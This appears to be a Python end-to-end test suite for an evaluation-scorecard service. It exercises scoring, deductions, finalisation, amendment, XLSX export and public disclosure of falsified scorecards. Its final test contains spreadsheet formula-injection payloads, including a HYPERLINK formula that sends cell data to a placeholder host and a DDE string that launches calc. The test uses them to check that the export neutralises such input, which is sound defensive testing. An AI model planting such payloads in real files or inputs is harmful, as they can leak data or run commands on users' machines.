"""A full evaluation through the gateway over HTTP (SQLite and PostgreSQL): suggestions,
a panel of two evaluators, a deduction, finalisation (traced by the archive), an
amendment, the XLSX, and a falsified scorecard in the public disclosures."""

from __future__ import annotations

import base64
from decimal import Decimal
from io import BytesIO
from typing import Any

from openpyxl import load_workbook

from kit.ids import new_id
from services.evaluation.templates import standard_c1
from tests.e2e.harness import RunningSystem, eventually, token
from tests.evaluation import gql

AGENCY = str(new_id())
ADMIN = token(f"agency:{AGENCY}", "agency_admin", user="admin-chen")
WANG = token(f"agency:{AGENCY}", "evaluator", user="eva-wang")
ZHAO = token(f"agency:{AGENCY}", "evaluator", user="eva-zhao")
C1 = standard_c1()
SCORED = [i for p in C1.parts if p.kind == "scored" for i in p.items]


def score(api: Any, tok: str, card: str, code: str, points: Any, **extra: Any) -> dict[str, Any]:
    item = {
        "scorecardId": card,
        "itemCode": code,
        "points": str(points),
        "justification": "现场核查",
    }
    return gql.run(api, gql.SCORE, tok, input={**item, **extra})


def test_R7_1_R7_2_full_evaluation_of_an_engagement(system: RunningSystem):
    api = system.api
    unit_id, eng_id = gql.engagement(api, ADMIN)
    opened = gql.open_for(api, WANG, eng_id)
    assert opened["__typename"] == "ScorecardSuccess", opened
    card = opened["scorecard"]
    assert (card["status"], card["periodLabel"], card["version"]) == ("OPEN", "2027", 1)
    assert len(card["results"]) == 22

    listed = api.gql(gql.TEMPLATES, {}, WANG)["data"]["evaluationTemplates"]
    assert [(p["code"], p["maxPoints"]) for p in listed[0]["parts"]] == [
        ("一", "25"),
        ("二", "50"),
        ("三", "25"),
        ("四", None),
    ]

    # Suggestions: nothing in the history contradicts 二.9, 二.10, 三.3, 三.4.
    sugg = gql.run(api, gql.SUGGESTIONS, WANG, id=card["id"])["suggestions"]
    suggested = {s["itemCode"]: Decimal(s["points"]) for s in sugg}
    assert suggested == {c: Decimal(5) for c in ("二.9", "二.10", "三.3", "三.4")}

    bad = score(api, WANG, card["id"], "一.2", "4.5")
    assert (bad["__typename"], bad["item"], bad["max"]) == ("ScoreOutOfRange", "一.2", "4")
    unexplained = score(api, ZHAO, card["id"], "三.4", 3)
    assert (unexplained["__typename"], unexplained["field"]) == (
        "ValidationError",
        "overrideReason",
    )

    for item in SCORED:
        top = Decimal(str(item.max_points))
        assert score(api, WANG, card["id"], item.code, top)["__typename"] == "ScorecardSuccess"
        if item.code in suggested:
            # The second evaluator overrides one suggestion with a reason.
            extra = {"overrideReason": "环保局约谈一次"} if item.code == "三.4" else {}
            points = top - 2 if extra else top
        else:
            points = top - 1 if top >= 1 else top
            extra = {}
        result = score(api, ZHAO, card["id"], item.code, points, **extra)
        assert result["__typename"] == "ScorecardSuccess", result
    view = result["scorecard"]
    assert view["evaluators"] == ["eva-wang", "eva-zhao"]
    [overridden] = [s for s in view["scores"] if s["overrideReason"]]
    assert (overridden["itemCode"], overridden["suggestedPoints"], overridden["points"]) == (
        "三.4",
        "5.00",
        "3.00",
    )

    deducted = gql.run(
        api,
        gql.DEDUCT,
        WANG,
        input={
            "scorecardId": card["id"],
            "itemCode": "四.2",
            "description": "整改方案拖延两周",
            "evidence": [{"kind": "DOCUMENT", "ref": "催办函-2027-08"}],
        },
    )["scorecard"]
    # 18 items one point lower for one of two evaluators (−9), 三.4 two lower (−1), −10.
    assert (Decimal(deducted["scoredTotal"]), Decimal(deducted["deducted"])) == (
        Decimal(90),
        Decimal(10),
    )
    assert (Decimal(deducted["total"]), deducted["grade"], deducted["gradeZh"]) == (
        Decimal(80),
        "GOOD",
        "良好",
    )

    final = gql.run(api, gql.FINALIZE, WANG, input={"scorecardId": card["id"]})
    assert final["scorecard"]["status"] == "FINALIZED"
    locked = score(api, WANG, card["id"], "一.1", 1)
    assert (locked["__typename"], locked["status"]) == ("ScorecardLocked", "finalized")

    def traced() -> bool:
        trace = api.engagement(ADMIN, eng_id)["trace"]  # type: ignore[index]
        return "evaluation.scorecard_finalized.v1" in {t["eventType"] for t in trace}

    eventually(traced)

    amended = gql.run(
        api,
        gql.AMEND,
        ADMIN,
        input={"scorecardId": card["id"], "reason": "复核：四.2 扣分依据不足"},
    )["scorecard"]
    assert (amended["version"], amended["previousId"], amended["status"]) == (
        2,
        gql.uuid_of(card["id"]),
        "OPEN",
    )
    old = gql.run(api, gql.SCORECARD, WANG, id=card["id"])
    assert (old["status"], old["total"]) == ("SUPERSEDED", "80.00")

    export = gql.run(api, gql.XLSX, ADMIN, id=card["id"])["xlsx"]
    book = load_workbook(BytesIO(base64.b64decode(export["contentBase64"])))
    rows = [[c.value for c in r] for r in book["表C.1"].iter_rows()]
    assert ["合计", None, None, 100, 80] in rows
    assert ["评价等级", None, "良好", None, None] in rows
    assert any(r[0] == "评价人员" and r[2] == "eva-wang、eva-zhao" for r in rows)

    # The unit reads its own history; the regulator of its region the distribution.
    viewer = token(f"unit:{gql.uuid_of(unit_id)}", "client_viewer")
    history = api.gql(
        "query($u: ID!) { unitGradeHistory(unitId: $u) { grade periodLabel } }",
        {"u": unit_id},
        viewer,
    )["data"]["unitGradeHistory"]
    assert history == [{"grade": "GOOD", "periodLabel": "2027"}]
    regulator = token("region:44", "regulator")
    dist = api.gql(
        '{ gradeDistribution(periodLabel: "2027") { total counts { grade count } } }',
        {},
        regulator,
    )["data"]["gradeDistribution"]
    assert dist["total"] >= 1
    assert {c["grade"] for c in dist["counts"]} == {"EXCELLENT", "GOOD", "QUALIFIED", "UNQUALIFIED"}
    results = api.gql(
        '{ agencyResults(periodLabel: "2027") { scorecards { grade } distribution { total } } }',
        {},
        ADMIN,
    )["data"]["agencyResults"]
    # While the amendment is open, version 1 is still the valid result.
    assert results["distribution"]["total"] == 1
    assert results["scorecards"] == [{"grade": "GOOD"}]


def test_R7_2_fraud_falsified_scorecard_is_disclosed_to_anyone(system: RunningSystem):
    api = system.api
    _, eng_id = gql.engagement(api, ADMIN)
    card = gql.open_for(api, WANG, eng_id)["scorecard"]
    result = gql.run(
        api,
        gql.FALSIFY,
        ADMIN,
        input={
            "scorecardId": card["id"],
            "party": "某环保服务公司项目组",
            "finding": "伪造巡检记录",
            "evidence": [{"kind": "DOCUMENT", "ref": "稽查通报-2027-12"}],
        },
    )["scorecard"]
    assert (result["status"], result["total"], result["grade"]) == (
        "FALSIFIED",
        "0.00",
        "UNQUALIFIED",
    )
    assert result["falsification"] == {"party": "某环保服务公司项目组", "decidedBy": "admin-chen"}

    public = api.gql(gql.DISCLOSURES, {}, None)  # anonymous
    assert "errors" not in public, public
    nodes = [e["node"] for e in public["data"]["falsificationDisclosures"]["edges"]]
    # The agency and the role that decided, never the person (issue 11, item 8).
    assert {
        "unitName": "绿源化工有限公司",
        "party": "某环保服务公司项目组",
        "finding": "伪造巡检记录",
        "grade": "UNQUALIFIED",
        "total": "0.00",
        "periodLabel": "2027",
        "agencyId": AGENCY,
        "decidedAs": "agency_admin",
    } in nodes
    assert "admin-chen" not in str(public)
    asked = api.gql("{ falsificationDisclosures { edges { node { decidedBy } } } }", {}, None)
    assert "Cannot query field 'decidedBy'" in asked["errors"][0]["message"]


INJECTION = '=HYPERLINK("http://x/?"&A1,"click")'


def test_user_text_reaches_the_xlsx_as_inert_strings_never_formulas(system: RunningSystem):
    """Issue 11, item 3: the payload found by probing, through GraphQL into Scorecard.xlsx."""
    api = system.api
    _, eng_id = gql.engagement(api, ADMIN)
    card = gql.open_for(api, WANG, eng_id)["scorecard"]
    scored = score(api, WANG, card["id"], "一.1", "5", justification=INJECTION)
    assert scored["__typename"] == "ScorecardSuccess", scored
    gql.run(
        api,
        gql.FALSIFY,
        ADMIN,
        input={
            "scorecardId": card["id"],
            "party": "@SUM(1+1)",
            "finding": "+cmd|' /C calc'!A0",
            "evidence": [{"kind": "DOCUMENT", "ref": "-2+3"}],
        },
    )
    export = gql.run(api, gql.XLSX, ADMIN, id=card["id"])["xlsx"]
    book = load_workbook(BytesIO(base64.b64decode(export["contentBase64"])))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    justification = by_value["'" + INJECTION]
    assert justification.data_type == "s"
    assert by_value["'@SUM(1+1)：+cmd|' /C calc'!A0"].data_type == "s"
    # Every text cell that starts like a formula was neutralised.
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(starts)] == []
